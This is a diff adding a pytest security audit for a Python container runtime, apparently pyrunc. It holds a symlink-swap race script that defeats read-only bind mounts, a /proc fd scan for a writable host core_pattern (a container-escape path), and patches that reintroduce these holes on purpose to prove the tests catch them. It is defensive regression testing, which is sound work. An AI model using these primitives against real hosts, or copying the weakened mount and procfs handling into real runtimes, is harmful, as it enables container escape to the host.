@@ -1,0 +1,187 @@
+"""A second attacker's audit against runc's CVE classes: the members of each class that the other
+tests/security files do not try. The container (its image, its processes, a process of another
+container sharing a volume with it) is hostile.
+
+Each fix here has a detector seen to fail against a weakened pyrunc (tests/security/weaken.py).
+"""
+import os
+import subprocess
+
+import pytest
+
+from secutil import base_config, copy_rootfs, runc_xfail
+from weaken import weakened
+
+_SWAP = """
+import ctypes, os
+libc = ctypes.CDLL(None, use_errno=True)
+pairs = [(a.encode(), b.encode()) for a, b in {pairs!r}]
+while not os.path.exists({stop!r}):
+    for a, b in pairs:
+        libc.renameat2(-100, a, -100, b, 2)  # RENAME_EXCHANGE
+"""
+
+
+def _swapper(pairs, stop):
+    """Another container's process on a shared volume: exchanges each pair (a, b) of PAIRS as
+    fast as it can, until STOP exists."""
+    return subprocess.Popen(["python3", "-c", _SWAP.format(pairs=pairs, stop=stop)])
+
+
+# ---------------------------------------------------------- a read-only bind made writable by a race
+BINDS = 1
+
+
+def ro_bind_race(rt, tmp_path, runs, first=False):
+    """mounts: a shared volume on /vol, a host directory bound read-only on /vol/x. Another
+    container exchanges /vol/x with a symlink /vol/l -> /vol all the while: a runtime that binds
+    first and looks /vol/x up again to remount it read-only remounts /vol instead (or fails),
+    and the host directory stays writable. Returns how many runs wrote into it (stops at the
+    first with FIRST)."""
+    vol, secret = tmp_path / "vol", tmp_path / "secret"
+    secret.mkdir()
+    pairs = []
+    for i in range(BINDS):
+        (vol / f"x{i}").mkdir(parents=True)
+        os.symlink("/vol", vol / f"l{i}")
+        pairs.append((str(vol / f"x{i}"), str(vol / f"l{i}")))
+    stop = str(tmp_path / "stop")
+    sw = _swapper(pairs, stop)
+    pwned = 0
+    try:
+        for _ in range(runs):
+            cfg = base_config(["sh", "-c", "for d in /vol/*; do touch $d/pwned 2>/dev/null; done; true"])
+            cfg["mounts"].append({"destination": "/vol", "type": "bind", "source": str(vol),
+                                  "options": ["rbind", "rw"]})
+            for i in range(BINDS):  # a chance to lose the race each
+                cfg["mounts"].append({"destination": f"/vol/x{i}", "type": "bind", "source": str(secret),
+                                      "options": ["bind", "ro", "nosuid"]})
+            p = rt.run(cfg, timeout=30)
+            assert "Traceback" not in p.stderr, p.stderr
+            if (secret / "pwned").exists():
+                pwned += 1
+                (secret / "pwned").unlink()
+                if first:
+                    break
+    finally:
+        open(stop, "w").close()
+        sw.wait(timeout=10)
+    return pwned
+
+
+def test_ro_bind_stays_ro_under_volume_race(anyrt, tmp_path):
+    if anyrt.name == "runc":
+        # runc 1.1.5 remounts by path too (its readlink check mostly refuses the swapped path)
+        # but was not seen to lose in 60 runs here: no stable verdict to check
+        pytest.skip("runc 1.1.5: same remount-by-path design, no stable verdict")
+    assert ro_bind_race(anyrt, tmp_path, int(os.environ.get("PYRUNC_STRESS_RACES", "10"))) == 0
+
+
+WEAK_REMOUNT_BY_PATH = {"rootfs.py": [(
+    "                _bind_attrs(tree, p)\n"
+    "                L.move_mount(tree, \"\", fd, \"\", L.MOVE_MOUNT_F_EMPTY_PATH | MOVE_MOUNT_T_EMPTY_PATH)\n",
+    "                L.move_mount(tree, \"\", fd, \"\", L.MOVE_MOUNT_F_EMPTY_PATH | MOVE_MOUNT_T_EMPTY_PATH)\n"
+    "                import time; time.sleep(0.005)  # the window widened: a quarter of runs lose\n"
+    "                nfd = open_in_root(rootfd, p.dest, mkdir=False)\n"
+    "                try:\n"
+    "                    L.mount(None, fdpath(nfd), None, p.flags | L.MS_REMOUNT | _locked_flags(fdpath(nfd)), None)\n"
+    "                finally:\n"
+    "                    os.close(nfd)\n")]}
+
+
+def test_weakened_remount_by_path_flagged(tmp_path):
+    """The pre-fix design (bind, then remount what the path names now; its window widened so that
+    a quarter of the runs lose the race): some run writes."""
+    rt = weakened(tmp_path, WEAK_REMOUNT_BY_PATH, "remount-by-path")
+    try:
+        n = ro_bind_race(rt, tmp_path, 100, first=True)
+        print("weakened: runs that wrote:", n)
+        assert n > 0
+    finally:
+        rt.cleanup()
+
+
+# ------------------------------------------- a procfs root of the host's in a process the container sees
+# A container granted CAP_SYS_PTRACE (ptrace access beats non-dumpable) follows /proc/PID/fd/N of
+# a runtime process in its pid namespace. An fd there on a procfs root that is not the
+# container's masked /proc (the host's, opened before pivot_root) leads to a writable
+# /proc/sys/kernel/core_pattern: a host escape. The probe opens it to append nothing (busybox's
+# [ -w ] is true for root whatever the file).
+# A directory of the host's (the state dir, say) leads there through `..`: /work is the host's.
+SCAN = ('for f in /proc/[0-9]*/fd/*; do true 2>/dev/null >>"$f/sys/kernel/core_pattern" && echo "WRITABLE $f"; '
+        '[ -e "$f/../../../../../../../../../../../../work" ] && echo "HOSTDIR $f"; done; true')
+
+
+def _ptrace_cfg(args):
+    cfg = base_config(args)
+    for k in ("bounding", "effective", "permitted"):
+        cfg["process"]["capabilities"][k].append("CAP_SYS_PTRACE")
+    return cfg
+
+
+def created_init_leak(rt):
+    """What a process exec'd into a `created` container finds through the init's fds."""
+    cid = rt.new_id("ptr")
+    rt("create", "-b", rt.bundle(_ptrace_cfg(["sleep", "100"])), cid, check=True)
+    p = rt("exec", "--cap", "CAP_SYS_PTRACE", cid, "sh", "-c", SCAN.replace("[0-9]*", "1"))
+    assert p.returncode == 0, p.stderr
+    return p.stdout.strip()
+
+
+def test_created_init_holds_no_host_procfs(anyrt):
+    assert created_init_leak(anyrt) == ""
+
+
+WEAK_KEEP_HOST_PROCFS = {"rootfs.py": [("        from . import procfs\n        procfs.release()\n", "        pass\n")]}
+
+
+def test_weakened_created_init_keeps_host_procfs_flagged(tmp_path):
+    rt = weakened(tmp_path, WEAK_KEEP_HOST_PROCFS, "keep-host-procfs")
+    try:
+        assert "WRITABLE /proc/1/fd/" in created_init_leak(rt)
+    finally:
+        rt.cleanup()
+
+
+def exec_window_leak(rt, tmp_path, execs):
+    """The container's process scans its pid namespace while `exec` brings processes in, each
+    visible from its fork to its execve. Returns what it found."""
+    out = tmp_path / f"out-{rt.name}"
+    out.mkdir()
+    cfg = _ptrace_cfg(["sh", "-c", f"while :; do {SCAN}; done >/out/found"])
+    cfg["mounts"].append({"destination": "/out", "type": "bind", "source": str(out), "options": ["rbind", "rw"]})
+    cid = rt.new_id("ptx")
+    rt("run", "-d", "-b", rt.bundle(cfg), cid, check=True, timeout=30)
+    found = ""
+    for _ in range(execs):
+        p = rt("exec", cid, "true", timeout=30)
+        assert p.returncode == 0, p.stderr
+        found = (out / "found").read_text() if (out / "found").exists() else ""
+        if found:
+            break
+    rt("kill", cid, "KILL")
+    return found
+
+
+def test_exec_process_holds_no_host_procfs(anyrt, tmp_path):
+    assert exec_window_leak(anyrt, tmp_path, 15) == ""
+
+
+WEAK_EXEC = {
+    # the process opens the host's procfs root again (what it did before)
+    "procfs": ({"chain/execproc.py": [("    procfs.release()\n", "    procfs.root()\n")]}, "WRITABLE"),
+    # the intermediate keeps the state dir's lock fd: the process inherits it, as it did when
+    # the runtime forked it itself (then with the cgroup2 directory it was cloned into, too)
+    "state-dir": ({"chain/parent.py": [("        c.unlock()  # the state dir", "        pass  # the state dir")]},
+                  "HOSTDIR"),
+}
+
+
+@pytest.mark.parametrize("weak", sorted(WEAK_EXEC))
+def test_weakened_exec_host_fds_flagged(tmp_path, weak):
+    patches, word = WEAK_EXEC[weak]
+    rt = weakened(tmp_path, patches, f"exec-{weak}")
+    try:
+        assert word in exec_window_leak(rt, tmp_path, 60)
+    finally:
+        rt.cleanup()
